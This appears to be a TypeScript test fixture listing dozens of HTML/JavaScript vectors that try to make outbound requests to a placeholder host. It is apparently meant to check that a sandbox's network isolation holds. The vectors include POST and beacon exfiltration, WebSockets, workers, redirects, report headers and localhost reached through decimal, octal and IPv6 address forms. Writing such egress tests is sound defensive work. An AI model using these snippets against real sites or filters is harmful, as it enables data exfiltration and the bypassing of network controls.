import type { BrowserVector } from "./browser-vectors.ts";

const script = (code: string): string => `<script>${code}</script>`;
const inFrame = (attributes: string): string => `<iframe ${attributes}></iframe>`;

/** Further ways of a frame of another host into the machine of the page that shows it. Add a line. */
export const outsideVectors: BrowserVector[] = [
  {
    name: "a frame without an address",
    html: script(
      `const f = document.createElement("iframe"); document.documentElement.append(f); f.contentWindow.fetch("THERE", { mode: "no-cors" })`,
    ),
  },
  {
    name: "a frame of about:blank that is written to",
    html: script(
      `const f = document.createElement("iframe"); f.src = "about:blank"; document.documentElement.append(f); f.contentDocument.write("<img src='THERE'>"); f.contentDocument.close()`,
    ),
  },
  {
    name: "a frame of a blob",
    html: script(
      `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src='THERE'>"], { type: "text/html" })); document.documentElement.append(f)`,
    ),
  },
  {
    name: "a sandboxed frame",
    html: inFrame(
      `sandbox="allow-scripts" srcdoc="<script>fetch('THERE', { mode: 'no-cors', method: 'POST', body: 'x' })</script>"`,
    ),
  },
  {
    name: "a sandboxed data: URL",
    html: inFrame(`sandbox="allow-scripts" src="data:text/html,<script>new WebSocket('ws://HOST/data')</script>"`),
  },
  { name: "a frame that becomes a data: URL", html: script(`location = "data:text/html,<img src='THERE'>"`) },
  {
    name: "a frame that becomes a blob",
    html: script(`location = URL.createObjectURL(new Blob(["<img src='THERE'>"], { type: "text/html" }))`),
  },
  { name: "a frame in a frame in a frame", html: inFrame(`srcdoc="<iframe srcdoc='<img src=THERE>'></iframe>"`) },
  {
    name: "a POST of 50 kB",
    html: script(`fetch("THERE", { method: "POST", mode: "no-cors", body: "x".repeat(50000) })`),
  },
  {
    name: "a form that posts to a named frame",
    html: `<iframe name="f" srcdoc=""></iframe><form action="THERE" target="f" method="post"><input name="a" value="b"></form>${script("document.forms[0].submit()")}`,
  },
  {
    name: "a form that posts to the page around it",
    html: `<form action="THERE" target="_top" method="post"></form>${script("document.forms[0].submit()")}`,
  },
  { name: "the page around it", html: script(`top.location = "THERE"`) },
  { name: "a link to the page around it", html: `<a href="THERE" target="_top" id="a">a</a>${script("a.click()")}` },
  {
    name: "localhost by name",
    html: script(`fetch("http://localhost:" + "HOST".split(":")[1] + "/name", { mode: "no-cors" })`),
  },
  { name: "IPv6", html: script(`fetch("http://[::1]:" + "HOST".split(":")[1] + "/six", { mode: "no-cors" })`) },
  {
    name: "IPv4 in IPv6",
    html: script(`fetch("http://[::ffff:127.0.0.1]:" + "HOST".split(":")[1] + "/mapped", { mode: "no-cors" })`),
  },
  {
    name: "one number",
    html: script(`fetch("http://2130706433:" + "HOST".split(":")[1] + "/number", { mode: "no-cors" })`),
  },
  {
    name: "octal numbers",
    html: script(`fetch("http://0177.0.0.01:" + "HOST".split(":")[1] + "/octal", { mode: "no-cors" })`),
  },
  { name: "0.0.0.0", html: script(`fetch("http://0.0.0.0:" + "HOST".split(":")[1] + "/zero", { mode: "no-cors" })`) },
  { name: "a WebSocket of localhost", html: script(`new WebSocket("ws://localhost:" + "HOST".split(":")[1] + "/ws")`) },
  { name: "a secure WebSocket", html: script(`new WebSocket("wss://HOST/wss")`) },
  {
    name: "a WebSocket of a worker of a blob",
    html: script("new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://HOST/blob')`])))"),
  },
  {
    name: "a WebSocket of a shared worker",
    html: script('new SharedWorker("/file")'),
    routes: { "/file": { headers: { "content-type": "text/javascript" }, body: 'new WebSocket("ws://HOST/shared")' } },
  },
  {
    name: "many of a shared worker",
    html: script('new SharedWorker("/file")'),
    routes: {
      "/file": {
        headers: { "content-type": "text/javascript" },
        body: 'for (let i = 0; i < 50; i++) fetch("THERE", { mode: "no-cors" })',
      },
    },
  },
  {
    name: "many of a service worker",
    html: script('navigator.serviceWorker.register("/file")'),
    routes: {
      "/file": {
        headers: { "content-type": "text/javascript" },
        body: 'for (let i = 0; i < 50; i++) fetch("THERE", { mode: "no-cors" })',
      },
    },
  },
  {
    name: "a redirect that keeps a POST",
    html: script('fetch("/file", { method: "POST", mode: "no-cors", body: "x" })'),
    routes: { "/file": { status: 307, headers: { location: "THERE" } } },
  },
  {
    name: "two redirects",
    html: '<img src="/file" alt="">',
    routes: {
      "/file": { status: 302, headers: { location: "/more" } },
      "/more": { status: 302, headers: { location: "THERE" } },
    },
  },
  {
    name: "a redirect of a script",
    html: '<script src="/file"></script>',
    routes: { "/file": { status: 302, headers: { location: "THERE" } } },
  },
  {
    name: "a style sheet that imports",
    html: '<link rel="stylesheet" href="/file">',
    routes: { "/file": { headers: { "content-type": "text/css" }, body: '@import "THERE";' } },
  },
  {
    name: "a beacon when it leaves",
    html: script(`onpagehide = () => navigator.sendBeacon("THERE", "x"); setTimeout(() => location = "/other", 50)`),
    routes: { "/other": "other" },
  },
  {
    name: "speculation rules of a response",
    html: "<p>",
    headers: { "speculation-rules": '"/file"' },
    routes: {
      "/file": {
        headers: { "content-type": "application/speculationrules+json" },
        body: '{"prefetch":[{"source":"list","urls":["THERE"],"eagerness":"immediate"}]}',
      },
    },
  },
  {
    name: "early loads by a Link header",
    html: "<p>",
    headers: { link: '<THERE>; rel="preconnect", <THERE>; rel="prefetch", <THERE>; rel="modulepreload"' },
  },
  {
    name: "a manifest with icons",
    html: '<link rel="manifest" href="/file">',
    routes: { "/file": { headers: { "content-type": "application/json" }, body: '{"icons":[{"src":"THERE"}]}' } },
  },
  { name: "a link that downloads", html: `<a href="THERE" download id="a">a</a>${script("a.click()")}` },
  { name: "a script of an SVG", html: '<svg><script href="THERE"></script></svg>' },
  {
    name: "a style sheet of XML",
    html: inFrame('src="/file"'),
    routes: {
      "/file": {
        headers: { "content-type": "text/xml" },
        body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="THERE"?><a/>',
      },
    },
  },
  { name: "a picture that registers its source", html: '<img attributionsrc="THERE" src="THERE" alt="">' },
  {
    name: "a login that the browser mediates",
    html: script(
      'navigator.credentials?.get({ identity: { providers: [{ configURL: "THERE", clientId: "1" }] } }).catch(() => {})',
    ),
  },
  {
    name: "a manifest of a way to pay",
    html: script(
      'try { new PaymentRequest([{ supportedMethods: "https://HOST/pay" }], { total: { label: "t", amount: { currency: "EUR", value: "1" } } }).canMakePayment() } catch {}',
    ),
  },
  {
    name: "reports of network errors, and of embedding",
    html: '<img src="/nothing" alt="">',
    headers: {
      "report-to": '{"group":"g","max_age":600,"endpoints":[{"url":"THERE"}]}',
      nel: '{"report_to":"g","max_age":600,"success_fraction":1,"failure_fraction":1}',
      "cross-origin-embedder-policy": 'require-corp; report-to="g"',
      "cross-origin-opener-policy": 'same-origin; report-to="g"',
    },
  },
  { name: "a dictionary for compression", html: '<link rel="compression-dictionary" href="THERE">' },
  { name: "a WebSocketStream", html: script('try { new WebSocketStream("ws://HOST/stream") } catch {}') },
  {
    name: "an EventSource and a synchronous request of a worker",
    html: script(
      "new Worker(URL.createObjectURL(new Blob([`new EventSource('THERE'); const x = new XMLHttpRequest(); x.open('POST', 'THERE', false); x.send('x')`])))",
    ),
  },
  {
    name: "a page kept while another one comes, with fetch that outlives it",
    html: script(
      'addEventListener("pagehide", () => { fetch("THERE", { method: "POST", mode: "no-cors", keepalive: true, body: "x" }); new Image().src = "THERE" }); setTimeout(() => { location = "/other" }, 50)',
    ),
    routes: { "/other": "other" },
  },
  {
    name: "a form that a button leads elsewhere",
    html: `<form action="/other"><button formaction="THERE" formmethod="post" formtarget="_parent" id="b">b</button></form>${script("b.click()")}`,
    routes: { "/other": "other" },
  },
  {
    name: "a PDF",
    html: '<embed type="application/pdf" src="THERE"><object type="application/pdf" data="THERE"></object>',
  },
  {
    name: "a frame in a shadow root",
    html: "<div><template shadowrootmode=open><iframe src=THERE></iframe></template></div>",
  },
];
